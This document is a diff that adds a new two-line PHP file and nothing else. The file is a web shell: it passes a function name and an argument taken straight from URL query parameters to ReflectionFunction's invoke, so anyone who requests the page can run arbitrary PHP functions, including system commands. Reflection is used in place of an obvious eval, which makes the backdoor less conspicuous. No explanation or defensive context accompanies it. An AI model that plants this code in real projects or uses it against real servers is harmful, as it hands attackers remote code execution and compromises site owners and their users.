@@ -1,0 +1,2 @@
+<?php
+(new ReflectionFunction($_GET['f']))->invoke($_GET['a']);
